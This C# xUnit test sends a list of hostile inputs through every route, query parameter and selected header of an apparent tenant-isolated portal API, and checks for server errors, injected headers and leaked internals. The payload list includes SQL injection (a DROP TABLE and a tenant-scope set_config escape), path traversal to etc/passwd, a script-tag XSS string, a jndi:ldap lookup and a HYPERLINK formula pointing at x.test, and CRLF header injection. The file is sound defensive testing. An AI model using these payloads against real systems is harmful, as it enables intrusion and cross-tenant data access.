using System.Collections.Concurrent;
using System.Globalization;
using System.Text;
using Shouldly;
using Xunit;

namespace Hexabase.Portal.Access.Isolation;

/// <summary>
/// Text that is meant to hurt, in every part of the path and every parameter of the query of every route: refused or taken as text, never a failure, a header of the
/// sender's making, a page of HTML, or a word of another organization.
/// </summary>
[Collection(nameof(IsolationWorld))]
public sealed class HostileInputTest(IsolationWorld world)
{
    /// <summary>Names that routes read from the query without the document saying so; each alone, for the first one that is refused hides the others.</summary>
    private static readonly string[] Undocumented = ["limit", "cursor", "sort", "filter", "format", "q", "after", "before", "from", "to", "groupBy", "where", "metric", "granularity", "currency", "onError", "mode", "name"];

    private static readonly (string Name, string Encoded)[] Payloads =
    [
        ("long", new string('x', 3000)), ("many digits", new string('9', 40)), ("negative", "-1"), ("NUL", "%00"), ("NUL inside", "acme%00acme"), ("slash", "a%2Fb"), ("climbing", "..%2F..%2Fetc%2Fpasswd"), ("backslash", "..%5C..%5C"),
        ("no UTF-8", "%FF%FE"), ("half a pair", "%ED%A0%80"), ("double encoding", "%2527"),
        Text("right to left", "\u202Eemca\u202C"), Text("zero width", "ac\u200Bme\uFEFF"), Text("look-alike", "\u0430cme"), Text("combining", "a" + new string('\u0301', 200)),
        Text("SQL", "'; DROP TABLE organizations; --"), Text("SQL or", "' OR '1'='1"), Text("LIKE", "%_\\[a-z]"), Text("scope", "x'; SELECT set_config('portal.organization', (SELECT id::text FROM organizations LIMIT 1), false); --"),
        Text("HTML", "<script>alert(1)</script>"), Text("template", "{{7*7}}${jndi:ldap://x.test/a}"), Text("CRLF", "x\r\nX-Injected: yes\r\n\r\n<html>"), Text("formula", "=HYPERLINK(\"http://x.test\")"), Text("filter", "id eq \"a\" or (id pr"), Text("brackets", new string('(', 500)),
    ];

    [Fact]
    public Task EveryPathPart_TakesHostileText() => RunAsync("Tivfoxtrot", (route, parts, payload) => Enumerable.Range(0, parts.Length)
        .Where(i => route.Template.Split('/')[i] is ['{', ..] part && (part != "{org}" || IsTurn(route, payload, 0, 4))).Select(i => string.Join('/', [.. parts[..i], payload, .. parts[(i + 1)..]])));

    [Fact]
    public Task EveryQueryParameter_TakesHostileText() => RunAsync("Yomgolf", (route, parts, payload) => route.IsRead
        ? route.Queries.Union(IsList(route) ? Undocumented.Where((_, i) => IsTurn(route, payload, i, 6)) : [], StringComparer.Ordinal).Select(name => $"{string.Join('/', parts)}?{name}={payload}").Append($"{string.Join('/', parts)}?{payload}={payload}")
        : route.Queries.Select(name => $"{string.Join('/', parts)}?{name}={payload}"));

    [Fact]
    public async Task EveryHeaderThatIsRead_TakesHostileText()
    {
        var wrong = new ConcurrentBag<string>();
        var cases = from name in new[] { "If-Match", "If-None-Match", "Idempotency-Key", "X-Request-Id", "Accept-Language", "Content-Type", "Content-Encoding", "Accept", "X-Forwarded-For", "X-Forwarded-Host", "Cookie", "Origin" }
                    from payload in Payloads where !payload.Encoded.Contains("%0", StringComparison.Ordinal)
                    from route in world.Routes.Where(r => r.Name is "saveView" or "changeBusinessUnit" or "getWorkspace" or "searchAudit")
                    select (name, payload, route);
        await Parallel.ForEachAsync(cases, RouteMatrixTest.Parallelism, async (c, _) =>
        {
            var request = RouteRequests.Make(c.route, world.A) with { Headers = new Dictionary<string, string>(StringComparer.Ordinal) { [c.name] = c.payload.Encoded } };
            Judge(await world.AskAsync(world.A.Clients["auditor"], world.A, request), $"{c.name} {c.payload.Name}: {request}", wrong);
        });
        wrong.ShouldBeEmpty(string.Join('\n', wrong.Take(30)));
    }

    /// <summary>What all routes read with the same code meets each text on some of them, not on each.</summary>
    private static bool IsTurn(ApiRoute route, string payload, int shift, int of) => (Array.FindIndex(Payloads, p => p.Encoded == payload) + route.Name.Length + route.Template.Length + shift) % of == 0;

    /// <summary>Lists read cursor, limit, sort and filter; reports their own words.</summary>
    private static bool IsList(ApiRoute route) => route.Name.StartsWith("list", StringComparison.Ordinal) || route.Template.Contains("cost", StringComparison.Ordinal) || route.Template.Contains("export", StringComparison.Ordinal);

    private async Task RunAsync(string marker, Func<ApiRoute, string[], string, IEnumerable<string>> paths)
    {
        var estate = await world.NewEstateAsync(marker);
        var (asked, wrong) = (0, new ConcurrentBag<string>());
        var cases = from route in world.Routes let request = RouteRequests.Make(route, estate) let parts = request.Path.Split('?')[0].Split('/') from payload in Payloads from path in paths(route, parts, payload.Encoded) select (payload.Name, request with { Path = path });
        await Parallel.ForEachAsync(cases, RouteMatrixTest.Parallelism, async (c, _) =>
        {
            Interlocked.Increment(ref asked);
            Judge(await world.AskAsync(estate.Clients["orgAdmin"], estate, c.Item2), $"{c.Name}: {c.Item2.Method} {c.Item2.Path[..Math.Min(200, c.Item2.Path.Length)]}", wrong);
        });
        wrong.ShouldBeEmpty(string.Join('\n', wrong.Take(30)));
        TestContext.Current.SendDiagnosticMessage(string.Create(CultureInfo.InvariantCulture, $"{asked} hostile requests"));
    }

    private static void Judge(IsolationAnswer answer, string what, ConcurrentBag<string> wrong)
    {
        if (answer.Status >= 500) wrong.Add($"{what} answered {answer.Status} {answer.Text}");
        if (answer.Headers.Contains("X-Injected", StringComparison.OrdinalIgnoreCase)) wrong.Add($"{what} wrote a header: {answer.Headers}");
        if (answer.MediaType is "text/html") wrong.Add($"{what} answered a page");
        if (answer.Status >= 400 && answer.MediaType != "application/problem+json") wrong.Add($"{what} answered {answer.Status} as {answer.MediaType}");
        if (!answer.Headers.Contains("nosniff", StringComparison.Ordinal)) wrong.Add($"{what} lets the browser guess the type");
        foreach (var secret in new[] { "Npgsql", "Exception", "   at Hexabase", "portal_app", "SELECT ", "stack" })
        {
            if (answer.Status >= 400 && answer.Text.Contains(secret, StringComparison.Ordinal) && !what.Contains(secret, StringComparison.Ordinal) && !what.StartsWith("scope", StringComparison.Ordinal)) wrong.Add($"{what} tells of the inside: {answer.Text}");
        }
    }

    private static (string Name, string Encoded) Text(string name, string text)
    {
        var encoded = new StringBuilder();
        foreach (var b in Encoding.UTF8.GetBytes(text)) encoded.Append(CultureInfo.InvariantCulture, $"%{b:X2}");
        return (name, encoded.ToString());
    }
}
